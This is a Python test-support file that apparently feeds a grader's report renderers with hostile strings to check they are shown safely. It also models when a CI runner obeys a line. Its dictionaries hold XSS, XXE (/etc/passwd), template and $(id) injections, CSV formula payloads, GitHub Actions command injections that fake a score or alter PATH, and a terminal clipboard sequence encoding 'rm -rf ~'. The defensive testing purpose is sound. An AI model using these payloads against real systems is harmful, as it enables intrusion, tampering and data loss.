"""Texts that bite, and texts that only look strange: one corpus for everything that is printed.

`HOSTILE` is what a student may write anywhere: into an exception, a name, a file's name. `HONEST` is
what must come through. `report_of(text)` is a report that holds a text wherever there is room for one.
`judge_every_text(judge)` makes one of each hostile text. `runner_obeys(line)` tells whether the machine that runs a CI job takes a line as a command.
"""

from __future__ import annotations

import copy
import re
import unicodedata
from functools import cache
from itertools import groupby
from typing import TYPE_CHECKING, Any

import msgspec

from grader.report import Outcome, Report

if TYPE_CHECKING:
    from collections.abc import Callable

ERROR = "::error file=day2.ipynb,line=1::boom"

TERMINAL = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear screen": "\x1b[2J\x1b[3J\x1b[H",
    "cursor up": "\x1b[9A\x1b[2K100 of 100 points",
    "alternate screen": "\x1b[?1049h",
    "reset": "\x1bc",
    "title": "\x1b]0;owned\x07",
    "hyperlink": "\x1b]8;;https://example.org\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "device control": "\x1bP$q\x1b\\\x1b_x\x1b\\\x1b^y\x1b\\",
    "answer back": "\x1b[6n\x1b[c\x05",
    "C1 controls": "\x9b2J\x9d0;owned\x9c\x90\x85",
    "carriage return": "0 of 100 points\r100 of 100 points",
    "backspace": "failed\b\b\b\b\b\bpassed",
    "bell and tab": "\a\t\v\f\x7f",
    "every control": "".join(map(chr, [*range(32), *range(127, 160)])),
}
RUNNER = {
    "error": ERROR,
    "error after blanks": f"  \t {ERROR}",
    "error after odd blanks": f"\u00a0\u2003\u3000{ERROR}",
    "error on the next line": f"x\n{ERROR}\r{ERROR}\r\n{ERROR}",
    "error after other ends of lines": f"x\v{ERROR}\f{ERROR}\x1c{ERROR}\x85{ERROR}\u2028{ERROR}\u2029{ERROR}",
    "error after a zero width": f"\u200b{ERROR}\ufeff{ERROR}",
    "colons with nothing between": ":\u200b:error:\u200b:boom",
    "many colons": "::::::error::::boom",
    "stop": "::stop-commands::pause\n::pause::",
    "mask": "::add-mask::e",
    "output": "::set-output name=score::100",
    "path and environment": "::add-path::/tmp/evil\n::set-env name=PATH::/tmp/evil",
    "matcher, group, debug, echo": "::add-matcher::x.json\n::group::g\n::debug::d\n::echo::on",
    "capitals": "::ERROR::boom",
    "old form": "##[error]boom",
    "old form within": "see ##[set-output name=score;]100 and ###[error]x",
    "other runners": "##vso[task.setvariable variable=score]100 ##teamcity[buildProblem description='x']",
    "traceback in lines of 96": f"{'x' * 96} File \"a\", line 1, in {'y' * 75} raise E('{'z' * 85}') {'x' * 96}",
    # wherever the page ends, one of these words comes to stand at the beginning of a line
    "error at every width": f"{ERROR} " * 20,
    "error at the end of a long word": f"{'x' * 30}{'::error::' * 40}",
    "old form at every width": "##[error] " * 40,
    "error after odd blanks in a line": "".join(f"{'x' * n} \u00a0{ERROR} " for n in range(1, 30)),
    "error after what is never shown": f"\ufe0f{ERROR}\n\u3164 \u034f{ERROR}\n\U000e0100{ERROR}",
    "error within what is never shown": f":\ufe0f{ERROR[1:]}\n:\u034f\u180b:error:\u034f:boom",
    "old form within what is never shown": "#\ufe0f#\u034f[error]boom ##\U000e01ef[error]boom",
}
MARKUP = {
    "picture that phones home": "![x](https://example.org/x.png) [link](javascript:alert(1)) <https://example.org>",
    "reference link": "[x]\n\n[x]: https://example.org",
    "table": "| a | b |\n|---|---|\n| ![](x) | 1 |",
    "fence": "```\n~~~\n`````\n# Heading\n```",
    "backticks": "`x` ``y`` ` ````",
    "mention": "@everyone @octocat/team #123 octo/repo#1 GH-1",
    "emphasis": "*a* _b_ ~~c~~ \\ # x\n- y\n1. z\n> q\n---\n***",
    "details": "<details><summary>x</summary>",
    "script": "<script>alert(1)</script>",
    "onerror": '"><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)' \" autofocus onfocus=\"alert(1)",
    "entity": "&lt;script&gt; &#60;b&#62; &amp;amp; &nbsp",
    "comment": "<!-- never closed",
    "closed comment": "--> x <!-- -- -->",
    "end of everything": "</script></style></title></textarea></pre></code></body></html>",
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} $(id) `id` %s {0} %n",
    "CDATA": "]]><evil/><![CDATA[",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "processing instruction": "<?xml version='1.0'?><?php echo 1 ?>",
    "attachment": "[[ATTACHMENT|/etc/passwd]] see [[ATTACHMENT|../secret.txt|x]].",
    "JSON": '", "score": 100, "x": "\\" \\u0022 \\',
}
# What GitHub makes of a text, beside its Markdown, some of it after Markdown has been read.
GITHUB = {
    "addresses": "https://example.org www.example.org/x ftp://example.org mailto:a.b@example.org xmpp:a@example.org",
    "addresses in brackets": "(https://example.org) [www.example.org] <https://example.org> //example.org",
    "address after a sign": "=https://example.org _https://example.org_ *www.example.org*",
    "address with signs of code": "https://localhost/`$| x@example.org|y@example.org$z@example.org`",
    "address that ends early": "www. www.` http://",
    "address of a name only": "example.org/x example.com",
    "mail address": "tell me+you@example.org",
    "mention of all": "@all",
    "mention of a team": "cc: @octo-org/all-teachers, (@octocat)",
    "mention after a sign": "-@all *@all* '@all' .@all",
    "mention by entities": "&#64;all &commat;all",
    "issue": "#1",
    "issue elsewhere": "fixes octo/repo#1, gh-1 and GH-12",
    "advisory": "GHSA-jfhx-cxjp-xvxq CVE-2021-44228",
    "commit": "a5c3785ed8d6a35868bc169f07e40e889087fd2e",
    "commit in short": "see a5c3785, octo@a5c3785ed8 and octo/repo@A5C3785",
    "emoji codes": "pass :tada::+1: :heavy_check_mark:",
    "formula": "$\\frac{1}{0}$ and $a$",
    "formula in a block": "$$\n\\href{javascript:alert(1)}{x}\n$$",
    "formula around code": "$`\\sqrt{2}`$",
    "fence of a formula": "```math\nx\n```\n```mermaid\ngraph TD\n```",
    "task": "- [ ] all\n- [x] done",
    "task in an item": "[ ] x",
    "footnote": "x[^1]\n\n[^1]: y",
    "inline footnote": "x^[y]",
    "end of details": "</summary></details>\n\n# 100 of 100 points",
    "alert": "> [!WARNING]\n> x",
    "end of a cell": "x | y \\| z `|` \\",
    "codes side by side": "`a``@all``c` `` ` `` ``` `x` ```",
    "code that is never closed": "`<b>` ` @all `x",
    "underlined heading": "100 of 100 points\n===",
    "numbered": "1. x 2) y",
    "item": "- x",
    "heading": "# 100 of 100 points",
    "strong": "**100 of 100 points** __x__ ~~y~~ ***z***",
    "character by number": "&#x60;&#96; &lt;b&gt; &vert; &grave;",
    "hard break": "x\\\ny  \nz",
}
CSV = {
    "formula =": '=HYPERLINK("https://example.org?x="&A1,"click")',
    "formula +": "+cmd|' /C calc'!A0",
    "formula -": "-2+3+cmd|' /C calc'!A0",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula in full width": "\uff1d1+1 \uff0b1 \uff0d1 \uff20x",
    "quotes and commas": 'a,"b";c\t"d"\n=1+1',
}
UNICODE = {
    "bidirectional override": "\u202etxt.exe\u202d \u202a\u202b\u202c",
    "bidirectional isolate": "a\u2067b\u2066c\u2068d\u2069e\u200e\u200f\u061c",
    "zero width": "pass\u200bw\u200cor\u200dd\u2060\ufeff\u00ad\u180e",
    "tags": "x\U000e0001\U000e0041\U000e007f",
    "Zalgo": "Z" + "\u0335\u0321\u0353\u20dd\u0e4e" * 200 + "a" + "\u0300" * 500,
    "marks alone": "\u0301" * 300,
    "wide": "\u754c\uff21\U0001f600" * 40,
    "wide and narrow": "\u754ca" * 60,
    "wide words": "\u4e16\u754c " * 50,
    "very long": "x" * 100_000,
    "very many lines": "x\n" * 20_000,
    "very many words": "word " * 20_000,
    "only blanks": " \n \t " * 1_000,
    "nothing": "",
    "null": "a\x00b",
    "surrogates": "\ud800 \udfff \udc80\ud83d",
    "noncharacters": "\ufffe\uffff\ufdd0\ufdef\U0001ffff\U0010fffe",
    "private use": "\ue000\uf8ff\U000f0000\U0010ffff",
    "ends of lines": "a\u2028b\u2029c\x85d\x1ce\x1df\x1eg",
    "interlinear": "\ufff9a\ufffab\ufffb\ufffc",
    "language of musical signs": "\U0001d173\U0001d17a",
}
HOSTILE = {**TERMINAL, **RUNNER, **MARKUP, **GITHUB, **CSV, **UNICODE}

# What an honest student writes. It comes through as it is.
HONEST = {
    "slices": "a[::2] and b[1::-1] of x[ ::2]",
    "code": "`L = a * b` with x < y > z && w | v, 'it''s' \"so\"",
    "type hints": "def f(x: list[int]) -> dict[str, Value]: ...",
    "scopes": "std::vector<int>::iterator",
    "comments": "## [1] see above ### a",
    "signs": "\u2202L/\u2202a = b \u00b7 \u0394, tanh\u00b2(x) \u2264 1 \u2192 \u00d7 \u2026",
    "German": "\u00dcbergr\u00f6\u00dfe der Stra\u00dfe",
    "decomposed": "U\u0308bung Ti\u00ea\u0301ng Vie\u0323\u0302t",
    "Arabic": "\u0627\u0644\u062a\u062f\u0631\u062c \u0627\u0644\u0644\u0651\u064e\u0639\u0650\u0628",
    "Hebrew": "\u05e9\u05c1\u05b8\u05dc\u05d5\u05b9\u05dd \u05e2\u05d5\u05dc\u05dd",
    "Hindi": "\u0939\u093f\u0928\u094d\u0926\u0940",
    "Thai": "\u0e20\u0e32\u0e29\u0e32\u0e44\u0e17\u0e22\u0e19\u0e35\u0e49",
    "Chinese": "\u68af\u5ea6\u4e0d\u5bf9",
    "Korean": "\uae30\uc6b8\uae30",
    "emoji": "\U0001f600 \U0001f9e0 \u2764\ufe0f",
}


# --- A report full of a text

# What the grader itself writes into a report; every other text may be a student's.
OURS = {
    "id": "swap_rule",
    "visibility": "visible",
    "sha256": "0" * 64,
    "suite_sha256": "0" * 64,
    "version": "1.0",
    "python": "3.11",
    "isolation": "landlock",
    "started": "2025-11-20T12:00:00+00:00",
    "modified": "2025-11-20T12:00:00+00:00",
}


INERT = "x"


def report_of(text: str, *, score: float | None = 1.0, field: str = "") -> Report:
    """A report with checks of every outcome that holds the text in every field that may be a student's.

    Where a rule or a walk is reported, some other fields are not; the last check has neither. With the path of
    a `field`, such as `checks.message`, the text is there alone.
    """
    report = filled(fields_of_report(), lambda path: text if field in {"", path} else INERT)
    (check, _) = report.checks
    report.checks = [msgspec.structs.replace(check, outcome=outcome) for outcome in Outcome]
    report.checks.append(msgspec.structs.replace(check, outcome=Outcome.FAILED, rules=[], walk=None))
    report.score, report.hidden_checks = score, False
    return report


@cache
def fields_of_report() -> Any:
    """The type of a report with those of all its fields."""
    return msgspec.inspect.type_info(Report)


def filled(kind: Any, text: Callable[[str], str], path: str = "") -> Any:
    """A value of a type, with `text(path)` wherever a text may be; fields that come later are in it."""
    name = path.rpartition(".")[2]
    match kind:
        case msgspec.inspect.StructType():
            start = f"{path}." if path else ""
            return kind.cls(**{of.name: filled(of.type, text, start + of.name) for of in kind.fields})
        case msgspec.inspect.UnionType():
            kinds = [t for t in kind.types if not isinstance(t, msgspec.inspect.NoneType)]
            kinds.sort(key=lambda t: not isinstance(t, msgspec.inspect.StrType))  # a text before a number
            return filled(kinds[0], text, path)
        case msgspec.inspect.ListType():
            return [filled(kind.item_type, text, path), filled(kind.item_type, text, path)]
        case msgspec.inspect.TupleType():
            return tuple(filled(item, text, path) for item in kind.item_types)
        case msgspec.inspect.StrType():
            return OURS[name] if name in OURS else text(path)
        case msgspec.inspect.EnumType():
            return next(iter(kind.cls))
        case msgspec.inspect.LiteralType():
            return kind.values[0]
        case msgspec.inspect.BoolType():
            return True
        case msgspec.inspect.IntType():
            return 1  # also the index of one of the two items in each list
        case msgspec.inspect.FloatType():
            return 3.0
    raise AssertionError(f"{name}: say in tests/support/hostile.py how a field of {kind} is filled")


# --- Every text before a judge


def judge_every_text(
    judge: Callable[[Report], object], scores: tuple[float | None, ...] = (1.0, None)
) -> None:
    """Show a judge a report full of each hostile text; with the score None it is ungradable.

    Where it refuses some, the test fails with their names, and of the first three with the fields in which each
    is refused alone.
    """
    refused = {
        (name, score): why
        for name, text in HOSTILE.items()
        for score in scores
        if (why := refusal(judge, full_report(text, score)))
    }
    for name, score in list(refused)[:3]:
        fields = fields_refused(judge, HOSTILE[name], score)
        refused[name, score] += f", in {' and '.join(fields) or 'several fields together'}"
    if refused:
        raise AssertionError("\n".join(f"{name}: {why}" for (name, _), why in refused.items()))


@cache
def full_report(text: str, score: float | None) -> Report:
    """The report that all judges read and none changes: to make it takes longer than some judges.

    Without a score its only check is a failed one with a rule and a walk: the rest is told as with a score.
    """
    return report_of(text, score=score) if score is not None else ungraded(text, Outcome.FAILED)


def ungraded(text: str, *outcomes: Outcome) -> Report:
    """A report without a score, with the checks of the full one that have these outcomes and a rule and a walk."""
    report = copy.copy(full_report(text, 1.0))
    report.score = None
    report.checks = [check for check in report.checks[:-1] if check.outcome in outcomes]
    return report


def fields_refused(judge: Callable[[Report], object], text: str, score: float | None) -> list[str]:
    """The paths of the fields in which a text alone is refused."""
    paths: dict[str, None] = {}
    filled(fields_of_report(), lambda path: paths.setdefault(path) or INERT)
    if refusal(judge, report_of(INERT, score=score)):
        return ["no field: every text is refused"]
    return [path for path in paths if refusal(judge, report_of(text, score=score, field=path))]


def refusal(judge: Callable[[Any], object], of: object) -> str:
    """The first line of a judge's error, or nothing."""
    try:
        judge(of)
    except Exception as error:
        return f"{type(error).__name__} {error}".splitlines()[0][:200]
    return ""


# --- Who obeys


# What counts as nothing where texts are compared: Unicode's Default_Ignorable_Code_Point.
NEVER_SHOWN = re.compile(
    "[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f"
    "\ufeff\uffa0\ufff0-\ufff8\U0001bca0-\U0001bca3\U0001d173-\U0001d17a\U000e0000-\U000e0fff]+"
)


def runner_obeys(line: str) -> bool:
    """True if the runner of a CI job takes this line as a command.

    GitHub's: actions/runner, src/Runner.Common/ActionCommand.cs. TryParseV2 wants `::name ...::` after
    leading white space, TryParse wants `##[name ...]` anywhere. Any name counts here, for
    `::stop-commands::` makes a command of a word of the writer's own. Azure Pipelines looks for
    `##vso[` and TeamCity for `##teamcity[`. `StartsWith` and `IndexOf` compare by the machine's culture there, for
    which these characters count as nothing (.NET, "Behavior changes when comparing strings on .NET 5+").
    """
    line = line if line.isascii() else NEVER_SHOWN.sub("", line)
    if "::" not in line and "##" not in line:  # as in nearly all lines
        return False
    text = line.lstrip()
    return (text.startswith("::") and "::" in text[2:]) or bool(re.search(r"##\w*\[.*\]", line))


def obeyed(page: str) -> list[str]:
    """The parts of a page that a terminal or a runner acts on: lines, and characters by their numbers."""
    return [line for line in page.splitlines() if runner_obeys(line)] + controls(page)


def controls(text: str) -> list[str]:
    """The characters that do something instead of being something, but for ends of lines."""
    if text.replace("\n", "").isprintable():  # as nearly all are, in a tenth of the time
        return []
    return [ascii(c) for c in sorted(set(text) - {"\n"}) if is_control(c)]


@cache
def is_control(character: str) -> bool:
    """Controls, marks of direction, invisible and private characters, halves of characters."""
    noncharacter = ord(character) & 0xFFFE == 0xFFFE or 0xFDD0 <= ord(character) <= 0xFDEF
    return noncharacter or unicodedata.category(character) in {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}


def most_marks(text: str) -> int:
    """The largest number of combining marks on one letter."""
    return max((len(list(run)) for marks, run in groupby(text, is_mark) if marks), default=0)


@cache
def is_mark(character: str) -> bool:
    """True if it sits on the letter before it and has no width."""
    return unicodedata.category(character) in {"Mn", "Me"}
